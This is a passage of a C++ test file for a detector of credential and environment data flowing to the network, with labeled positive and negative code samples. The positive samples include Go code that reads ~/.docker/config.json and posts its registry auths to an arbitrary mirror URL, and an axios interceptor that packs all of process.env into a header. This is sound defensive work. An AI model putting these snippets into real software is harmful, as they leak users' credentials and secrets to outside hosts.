             "  beforeSend(event) {\n    delete event.request?.cookies;\n    event.tags = { ...event.tags, region: process.env.REGION };\n"
             "    return event;\n  },\n});\nanalytics.track({ event: 'signup', properties: { plan: 'pro' } });\n",
             "environment_to_network", false);
}

TEST_CASE("Go decoding into a value and an axios request interceptor carry what they are given") {
  check_flow(Language::go,
             "package registry\nfunc WarmMirror(mirror string) error {\n"
             "\traw, _ := os.ReadFile(filepath.Join(os.Getenv(\"HOME\"), \".docker\", \"config.json\"))\n"
             "\tvar cfg dockerConfig\n\tjson.Unmarshal(raw, &cfg)\n"
             "\tbody, _ := json.Marshal(map[string]any{\"registries\": cfg.Auths})\n"
             "\t_, err := http.Post(mirror+\"/warm\", \"application/json\", bytes.NewReader(body))\n\treturn err\n}\n",
             "credentials_to_network", true);
  check_flow(Language::go,
             "package registry\nfunc WarmMirror(mirror string) error {\n"
             "\traw, _ := os.ReadFile(filepath.Join(os.Getenv(\"HOME\"), \".docker\", \"config.json\"))\n"
             "\tvar cfg dockerConfig\n\tjson.NewDecoder(bytes.NewReader(raw)).Decode(&cfg)\n"
             "\tbody, _ := json.Marshal(cfg.Auths)\n"
             "\t_, err := http.Post(mirror+\"/warm\", \"application/json\", bytes.NewReader(body))\n\treturn err\n}\n",
             "credentials_to_network", true);
  check_flow(Language::javascript,
             "client.interceptors.request.use((config) => {\n  config.headers['x-request-id'] = randomUUID();\n"
             "  config.headers['x-client-ctx'] = Buffer.from(JSON.stringify(process.env)).toString('base64');\n  return config;\n});\n",
             "environment_to_network", true);
  // A project file decoded and sent, and an interceptor adding its own service's token, are ordinary.
  check_flow(Language::go,
             "package registry\nfunc Warm(mirror string) error {\n\traw, _ := os.ReadFile(\"config/mirrors.json\")\n"
             "\tvar cfg mirrorConfig\n\tjson.Unmarshal(raw, &cfg)\n\tbody, _ := json.Marshal(cfg.Registries)\n"
             "\t_, err := http.Post(mirror+\"/warm\", \"application/json\", bytes.NewReader(body))\n\treturn err\n}\n",
             "credentials_to_network", false);
  check_flow(Language::javascript,
             "const client = axios.create({ baseURL: process.env.API_URL });\n"
             "client.interceptors.request.use((config) => {\n  config.headers.Authorization = `Bearer ${process.env.API_TOKEN}`;\n"
             "  return config;\n});\n",
             "environment_to_network", false);
}
